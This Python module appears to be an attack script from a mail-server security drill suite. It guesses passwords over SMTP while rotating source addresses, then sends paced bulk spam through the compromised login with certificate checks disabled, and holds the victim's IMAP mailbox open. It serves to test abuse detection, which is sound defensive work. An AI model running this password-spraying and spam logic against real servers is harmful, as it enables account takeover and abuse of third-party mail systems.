"""What somebody does who has the password of an account, or guesses it: one drill's attack.

On standard input a job, as mailkeep.drills.attacks.Attack has it, with `host`, `login` and `sources`; on standard
output, one JSON object a line, what was tried and what the server said. Ends by itself: after so many tries or
seconds, or some seconds after the account was found frozen. Standard library only, for it runs on the attacker.
"""

import contextlib
import imaplib
import itertools
import json
import smtplib
import ssl
import sys
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from email.policy import SMTP as LINES
from typing import Any

PATIENCE = 5.0
"""Seconds to wait for an answer: who is banned hears none."""
CLOSED = ("421", "521", "dropped")


def anyone() -> ssl.SSLContext:
    """An attacker does not care whose certificate it is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


class RefusedError(Exception):
    """The message is the server's answer."""


def expect(answer: tuple[int, bytes], code: int = 250) -> None:
    if answer[0] // 100 != code // 100:
        raise RefusedError(f"{answer[0]} {answer[1].decode(errors='replace')}")


def heard(act: Callable[[], str]) -> str:
    """The answer; "dropped: …" where there was none."""
    try:
        return act()
    except RefusedError as error:
        return str(error)
    except smtplib.SMTPResponseException as error:
        text = error.smtp_error
        return f"{error.smtp_code} {text.decode(errors='replace') if isinstance(text, bytes) else text}"
    except imaplib.IMAP4.error as error:
        return f"dropped: {error}"
    except (OSError, EOFError, smtplib.SMTPException) as error:
        return f"dropped: {error!r}"


class Attack:
    def __init__(self, job: dict[str, Any]) -> None:
        self.job = job
        self.numbers = itertools.count()
        self.sources = itertools.cycle(job["sources"])
        self.began = self.ends = 0.0
        self.lock = threading.Lock()

    def say(self, kind: str, at: float, answer: str, **more: Any) -> None:
        with self.lock:
            print(json.dumps({"kind": kind, "at": at, "until": time.time(), "answer": answer} | more), flush=True)

    # --- the whole of it --------------------------------------------------------------------------------------------

    def run(self) -> None:
        self.guess()
        self.began = time.time()
        self.ends = self.began + self.job["seconds"]
        mailbox = self.open_mailbox()
        reader = threading.Thread(target=self.read, args=(mailbox,), daemon=True)
        reader.start()
        if self.job["probe"]:
            self.session(probe=True)
        self.began = time.time()
        workers = [threading.Thread(target=self.work, daemon=True) for _ in range(self.job["workers"])]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        self.ends = 0.0
        reader.join()

    def work(self) -> None:
        while time.time() < self.ends and self.session():
            pass

    # --- guessing ---------------------------------------------------------------------------------------------------

    def guess(self) -> None:
        """Each guess from the next source, a few at a time; the password itself comes later."""
        guesses = list(zip(self.job["guesses"], self.sources, strict=False))
        if guesses:
            with ThreadPoolExecutor(len(self.job["sources"])) as pool:
                list(pool.map(lambda pair: self.guess_once(*pair), guesses))

    def guess_once(self, password: str, source: str) -> None:
        at = time.time()

        def act() -> str:
            with self.connect(source) as smtp:
                return self.log_in(smtp, password)

        self.say("guess", at, heard(act), source=source)

    # --- sending ----------------------------------------------------------------------------------------------------

    def connect(self, source: str) -> smtplib.SMTP:
        host = self.job["host6"] if ":" in source else self.job["host"]
        smtp = smtplib.SMTP(host, 587, "[192.0.2.1]", timeout=PATIENCE, source_address=(source, 0) if source else None)
        smtp.starttls(context=anyone())
        smtp.ehlo()
        return smtp

    def log_in(self, smtp: smtplib.SMTP, password: str) -> str:
        smtp.user, smtp.password = self.job["login"][0], password
        code, text = smtp.auth("PLAIN", smtp.auth_plain)
        return f"{code} {text.decode(errors='replace')}"

    def session(self, probe: bool = False) -> bool:
        """One connection, and messages over it for as long as it lasts; False when no more are to be tried."""
        if (number := self.turn()) is None:
            return False
        source, at = next(self.sources), time.time()
        opened: list[smtplib.SMTP] = []

        def act() -> str:
            opened.append(self.connect(source))
            return self.log_in(opened[0], self.job["login"][1])

        answer = heard(act)
        if not answer.startswith("235"):
            self.tried(at, answer, source, 0)
        while answer.startswith("235") and number is not None:
            at = time.time()
            said, taken = self.send(opened[0], number)
            self.tried(at, said, source, taken)
            if probe or self.job["fresh"] or said.startswith(CLOSED):
                break
            number = self.turn()
        with contextlib.suppress(OSError, smtplib.SMTPException, IndexError):
            opened[0].close()
        return True

    def turn(self) -> int | None:
        """The number of the next try, when it is its time; None when there is none any more."""
        number = next(self.numbers)
        due = self.began + number / self.job["pace"]
        if number >= self.job["tries"] or max(due, time.time()) > self.ends:
            return None
        time.sleep(max(due - time.time(), 0))
        return number if time.time() < self.ends else None

    def send(self, smtp: smtplib.SMTP, number: int) -> tuple[str, int]:
        """The last answer, and to how many recipients the message went. Who is refused one of them, writes to those
        who are left."""
        user = self.job["login"][0]
        taken: list[str] = []

        def act() -> str:
            smtp.rset()
            expect(smtp.mail(self.job["envelope"] or user))
            refusal = None
            for recipient in self.recipients(number):
                try:
                    expect(smtp.rcpt(recipient))
                    taken.append(recipient)
                except RefusedError as error:
                    refusal = error
                    break
            if refusal and (not taken or str(refusal).startswith(CLOSED)):
                raise refusal
            expect(smtp.data(message(self.job["author"] or user, number)))
            if refusal:
                raise refusal
            return "250"

        before = heard(act)
        went = before.startswith("250") or (before.startswith("450") and taken)
        return before, len(taken) if went else 0

    def recipients(self, number: int) -> list[str]:
        """Others each time; every fourth message has one whose server says "later", as most did in the incidents."""
        if self.job["to"]:
            return [self.job["to"]]
        victims = [f"victim-{number}-{one}@outside.test" for one in range(self.job["recipients"])]
        return ["defer@outside.test", *victims[1:]] if number % 4 == 1 else victims

    def tried(self, at: float, answer: str, source: str, taken: int) -> None:
        self.say("try", at, answer, source=source, recipients=taken)
        if "frozen" in answer or answer.startswith("535"):
            self.ends = min(self.ends, time.time() + self.job["after"])

    # --- reading ----------------------------------------------------------------------------------------------------

    def open_mailbox(self) -> imaplib.IMAP4:
        mailbox = imaplib.IMAP4_SSL(self.job["host"], 993, ssl_context=anyone(), timeout=PATIENCE)
        mailbox.login(*self.job["login"])
        return mailbox

    def read(self, mailbox: imaplib.IMAP4) -> None:
        """Holds the victim's mailbox open, and says when it is cut; then tries to come back."""
        answer = "OK"
        while answer == "OK" and time.time() < self.ends:
            answer = heard(lambda: str(mailbox.noop()[0]))
            time.sleep(0.2)
        self.say("mailbox", time.time(), "open" if answer == "OK" else "cut")
        self.say("return", time.time(), heard(lambda: str(self.open_mailbox().noop()[0])))


def message(author: str, number: int) -> bytes:
    made = EmailMessage(policy=LINES)
    made["From"], made["To"] = author, "undisclosed-recipients:;"
    made["Subject"] = f"Drill: spam {number}"
    made.set_content("You have won. This is a drill of a mail server; nobody has won anything.\n")
    return made.as_bytes()


if __name__ == "__main__":
    Attack(json.load(sys.stdin)).run()
